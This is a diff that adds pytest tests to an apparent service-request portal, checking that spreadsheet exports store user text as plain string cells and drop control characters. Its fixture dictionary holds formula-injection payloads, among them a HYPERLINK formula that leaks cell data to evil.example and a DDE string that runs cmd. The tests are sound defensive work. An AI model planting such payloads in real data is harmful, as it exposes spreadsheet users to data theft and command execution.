@@ -384,3 +384,85 @@ def test_the_demo_deliveries_and_feedback_follow_the_rules(db_session, app):
     assert fb.mean_score == Decimal("4.7")
     dlv = db_session.scalar(select(Delivery).where(Delivery.request_id == example.id))
     assert dlv.service_item == "生产系统故障修复" and dlv.result == "pass"
+
+
+# what a customer or an engineer may type that a spreadsheet would read as a formula
+FORMULA_LIKE = {
+    "=": '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3",
+    "@": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "cr": "\r=2+2",
+}
+
+
+def test_typed_text_that_looks_like_a_formula_is_exported_as_text(example, db_session):
+    """Every export writes user text as a string cell, exactly as typed, never as a formula
+    (openpyxl would make "=…" one): a live =HYPERLINK could send the sheet's data away."""
+    from portal.models import ImprovementMeasure
+
+    ex = example
+    sr = ex["sr"]
+    dlv = _walk_to_feedback(ex, db_session)
+    f = FORMULA_LIKE
+    sr.description = f["="]
+    record = db_session.scalar(select(HandlingRecord).where(HandlingRecord.request_id == sr.id))
+    record.workaround, record.final_result = f["="], f["tab"]
+    record.customer_confirmed_name = f["-"]
+    dlv.service_item = f["="]
+    for sig in db_session.scalars(select(Signature).where(Signature.delivery_id == dlv.id)):
+        sig.typed_name = f["@"] if sig.party == "customer" else f["+"]
+    fb = feedback_of(db_session, sr)
+    fb.suggestions = f["cr"]
+    db_session.scalar(
+        select(ImprovementMeasure).where(ImprovementMeasure.feedback_id == fb.id)
+    ).measure = f["="]
+    db_session.flush()
+    expected = {
+        "sr": {"Description": f["="]},
+        "ir": {"Temporary workaround": f["="], "Final result": f["tab"]},
+        "sd": {"Service item": f["="], "Customer signature": f["@"]},
+        # a line end is stored as LF in the workbook's XML: the CR reads back as a line break
+        "fb": {"Suggestions": "\n=2+2"},
+    }
+    for form, cells in expected.items():
+        resp = ex["customer"].get(f"/requests/{sr.number}/export/{form}.xlsx")
+        assert resp.status_code == 200
+        ws = load_workbook(io.BytesIO(resp.data)).active
+        heads = [c.value for c in ws[1]]
+        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), form
+        for head, text in cells.items():
+            cell = ws[2][heads.index(head)]
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), (form, head)
+    # the signatures table below the SD, as the handler exports it (both names in full)
+    ws = load_workbook(
+        io.BytesIO(ex["staff"].get(f"/staff/requests/{sr.number}/export/sd.xlsx").data)
+    ).active
+    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value}
+    assert all(c.data_type != "f" for c in cells.values())
+    assert cells[f["@"]].data_type == cells[f["+"]].data_type == "s"
+    # the IR's confirmation: the customer's name first
+    ws = load_workbook(
+        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/ir.xlsx").data)
+    ).active
+    confirmation = ws[2][[c.value for c in ws[1]].index("Customer confirmation")]
+    assert (confirmation.data_type, confirmation.value) == ("s", f["-"] + " (2024-10-01 11:30)")
+    ws = load_workbook(
+        io.BytesIO(ex["customer"].get(f"/requests/{sr.number}/export/fb.xlsx").data)
+    ).active
+    measures = ws[2][[c.value for c in ws[1]].index("Improvement measures")]
+    assert measures.data_type == "s" and measures.value.startswith(f["="] + " (owner: ")
+
+
+def test_control_characters_in_typed_text_do_not_break_an_export(example, db_session):
+    """A pasted vertical tab or form feed cannot be stored in a workbook: it is left out,
+    rather than the export failing."""
+    ex = example
+    sr = ex["sr"]
+    sr.description = "第一段\x0b第二段\x0c"
+    db_session.flush()
+    resp = ex["customer"].get(f"/requests/{sr.number}/export/sr.xlsx")
+    assert resp.status_code == 200
+    ws = load_workbook(io.BytesIO(resp.data)).active
+    assert ws[2][[c.value for c in ws[1]].index("Description")].value == "第一段第二段"
